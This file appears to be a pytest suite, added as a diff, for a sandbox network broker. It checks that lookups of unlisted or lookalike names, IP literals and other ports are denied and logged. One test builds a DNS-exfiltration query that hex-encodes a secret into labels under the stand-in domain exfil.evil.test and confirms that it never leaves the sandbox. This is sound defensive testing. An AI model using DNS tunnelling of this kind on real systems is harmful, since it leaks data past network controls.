@@ -1,0 +1,189 @@
+"""The stub resolver and transparent capture for real: `stockade run` under bubblewrap, clients
+inside that ignore the proxy variables (curl ``--noproxy '*'``, Python sockets, raw DNS
+packets), the test servers of ``test_broker_sandbox`` in a network namespace, names mapped by
+the broker's table resolver.  Every refusal is checked in the run's audit trail.
+
+Needs root (``ip netns``) and bubblewrap; a path whose broker does not capture (its
+listeners opened without the namespace's capabilities) is skipped with the reason.
+"""
+
+# ruff: noqa: F811  (the test functions take the `net` fixture imported from test_broker_sandbox)
+from __future__ import annotations
+
+import ipaddress
+import shutil
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+
+from stockade.runtime.broker import Broker, BrokerHooks
+from stockade.runtime.session import RunOutcome
+
+from .test_broker_sandbox import MODES, Net, _net_records, _run, net  # noqa: F401
+
+HERE = Path(__file__).resolve().parent
+POOL = ipaddress.ip_network("198.18.0.0/15")
+
+
+class _Recording:
+    """The test resolver, noting every name the broker asks it (what would reach a real resolver)."""
+
+    def __init__(self, inner: object):
+        self.inner = inner
+        self.asked: list[str] = []
+
+    def __call__(self, name: str) -> list[str]:
+        self.asked.append(name)
+        return self.inner(name)  # type: ignore[operator,no-any-return]
+
+
+def _capturing(net: Net, mode: str) -> _Recording:
+    """Skip unless this path's broker captures; a recording resolver for the run."""
+    seen: list[Broker] = []
+    resolver = _Recording(net.resolver)
+    _run(net, "true", hooks=BrokerHooks(resolver=resolver, on_start=seen.append), mode=mode)
+    if not seen or not seen[0].capture:
+        pytest.skip(f"the {mode} path opens the broker's listeners without the namespace's capabilities "
+                    "(no port 53, no routes): no stub resolver, no capture")
+    return resolver
+
+
+def _probe(net: Net, *args: str, mode: str, resolver: _Recording | None = None) -> tuple[int | None, str, str]:
+    shutil.copy(HERE / "netstub_probe.py", net.workspace / "netstub_probe.py")
+    hooks = BrokerHooks(resolver=resolver or net.resolver)
+    outcome, out, err = _run(net, "python3", "netstub_probe.py", *args, hooks=hooks, mode=mode)
+    return outcome.exit_status, out, err
+
+
+def _curl(net: Net, url: str, mode: str) -> tuple[RunOutcome, str, str]:
+    outcome, out, err = _run(net, "python3", "x.py", "curl", "-fsS", "--max-time", "20", "--noproxy", "*",
+                             "--cacert", "ca.pem", url, mode=mode)
+    return outcome, out, err
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_allowed_names_reach_their_hosts_without_the_proxy(net: Net, mode: str) -> None:
+    _capturing(net, mode)
+    status, out, err = _probe(net, "resolve", "pypi.test", mode=mode)
+    assert status == 0, out + err
+    (fake,) = out.split()  # one IPv4 address (AAAA: no data), a fake one
+    assert ipaddress.ip_address(fake) in POOL
+    for url in (f"https://pypi.test/hello.txt?capture-{mode}", f"http://pypi.test/hello.txt?capture-{mode}",
+                f"https://api.example.test/hello.txt?capture-{mode}"):
+        outcome, out, err = _curl(net, url, mode)
+        assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
+        (record,) = _net_records(net, url)
+        assert (record["protocol"], record["decision"], record["address"]) == ("capture", "allow", net.host.address)
+        assert record["host"] in url and record["bytes_received"] > 0 and record["rule"].startswith("allow ")
+    status, out, err = _probe(net, "connect", "echo.test", "7", f"ping-{mode}", mode=mode)  # plain TCP
+    assert (status, out) == (0, f"echo:ping-{mode}\n"), out + err
+    (record,) = _net_records(net, f"ping-{mode}")
+    assert (record["host"], record["port"], record["rule"]) == ("echo.test", 7, "allow echo.test:7")
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_unlisted_and_lookalike_names_get_nxdomain_with_their_record(net: Net, mode: str) -> None:
+    _capturing(net, mode)
+    for name in ("evil.test", "github.com.evil.test", "example.test"):  # example.test: apex, not *.example.test
+        url = f"https://{name}/hello.txt?nx-{mode}"
+        outcome, _, err = _curl(net, url, mode)
+        assert outcome.exit_status == 6 and "resolve" in err.lower(), err
+        assert f"blocked: name lookup of {name} (no rule allows it at any port; default deny at" \
+            in outcome.blocked[0], outcome.blocked
+        records = _net_records(net, url)
+        assert records and {(r["protocol"], r["host"], r["decision"]) for r in records} == {("dns", name, "deny")}
+        assert records[0]["rule"] == "default deny" and records[0]["rule_at"].startswith(str(net.policy))
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_literals_and_other_ports_are_refused_with_their_record(net: Net, mode: str) -> None:
+    _capturing(net, mode)
+    url = f"http://{net.host.address}/hello.txt?literal-{mode}"
+    outcome, out, _ = _curl(net, url, mode)
+    assert outcome.exit_status != 0 and "hello" not in out
+    (record,) = _net_records(net, url)
+    assert (record["protocol"], record["host"], record["port"], record["decision"]) == (
+        "capture", net.host.address, 80, "deny")
+    assert "judged as an address" in record["reason"]
+    url = f"http://files.test/hello.txt?port-{mode}"  # the policy allows files.test:443 only
+    outcome, out, _ = _curl(net, url, mode)
+    assert outcome.exit_status != 0 and "hello" not in out
+    (record,) = _net_records(net, url)
+    assert (record["protocol"], record["host"], record["port"], record["decision"]) == ("capture", "files.test", 80,
+                                                                                        "deny")
+    assert outcome.blocked == (f"blocked: files.test:80 ({record['reason']}; default deny at {record['rule_at']})",)
+    # a port nothing captures: refused at once by the namespace, nothing to record
+    status, out, _ = _probe(net, "connect", "pypi.test", "8081", f"nolistener-{mode}", mode=mode)
+    assert status == 3 and "ConnectionRefusedError" in out, out
+    assert _net_records(net, f"nolistener-{mode}") == []
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_ipv6_literals_are_refused_with_their_record(net: Net, mode: str) -> None:
+    seen: list[Broker] = []
+    _run(net, "true", hooks=BrokerHooks(resolver=net.resolver, on_start=seen.append), mode=mode)
+    if not seen or not seen[0].capture_ipv6:
+        pytest.skip("no capture on IPv6 on this path or kernel")
+    for url in (f"http://[2001:db8::5]/hello.txt?v6-{mode}", f"https://[::ffff:{net.host.address}]/?v6-{mode}"):
+        outcome, out, err = _curl(net, url, mode)
+        assert outcome.exit_status != 0 and "hello" not in out, err
+        records = _net_records(net, url)
+        assert [(r["protocol"], r["decision"]) for r in records] == [("capture", "deny")], records
+        assert "judged as an address" in records[0]["reason"]
+    status, out, err = _probe(net, "query", "pypi.test", "28", mode=mode)  # AAAA of an allowed name: no data
+    assert (status, out) == (0, "id=4242 rcode=0 answers=\n"), out + err
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_dns_exfiltration_is_answered_here_recorded_and_goes_nowhere(net: Net, mode: str) -> None:
+    resolver = _capturing(net, mode)
+    secret = "73656372657420646174612c2073656e74206f7574207468726f756768206120646e73206c6f6f6b75702e"
+    name = f"{secret[:63]}.{secret[63:]}.exfil.evil.test"
+    # a "real" resolver the sandbox might aim at: a UDP server on the test host's gateway address
+    upstream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        upstream.bind((net.host.gateway, 53))
+    except OSError as exc:
+        upstream.close()
+        pytest.skip(f"cannot listen on {net.host.gateway}:53 here: {exc}")
+    received: list[bytes] = []
+    upstream.settimeout(0.2)
+
+    def listen() -> None:
+        while not stop.is_set():
+            try:
+                received.append(upstream.recv(65535))
+            except OSError:
+                continue
+
+    stop = threading.Event()
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    try:
+        for server, transport in (("-", "udp"), (net.host.gateway, "udp"), ("8.8.8.8", "tcp")):
+            status, out, err = _probe(net, "query", name, "16", server, transport, mode=mode, resolver=resolver)
+            assert (status, out) == (0, "id=4242 rcode=3 answers=\n"), out + err  # NXDOMAIN, here
+    finally:
+        stop.set()
+        listener.join()
+        upstream.close()
+    assert received == []
+    assert not any(secret[:20] in asked for asked in resolver.asked)
+    records = _net_records(net, secret[:63])
+    assert len(records) == 3 and all(r["host"] == name and r["decision"] == "deny" for r in records)
+    assert {r["protocol"] for r in records} == {"dns", "dns-tcp"}
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_malformed_dns_packets_do_not_break_the_broker(net: Net, mode: str) -> None:
+    _capturing(net, mode)
+    status, out, err = _probe(net, "garbage", mode=mode)
+    lines = out.splitlines()
+    assert status == 0 and len(lines) == 2, out + err
+    assert lines[0].startswith("answered ") and not lines[0].startswith("answered 0 ")  # FORMERR for most
+    assert lines[1].startswith("id=4242 rcode=0 answers=198.1"), out  # the stub still answers
+    outcome, out, err = _curl(net, f"https://pypi.test/hello.txt?after-garbage-{mode}", mode)
+    assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
+    assert not outcome.warnings, outcome.warnings
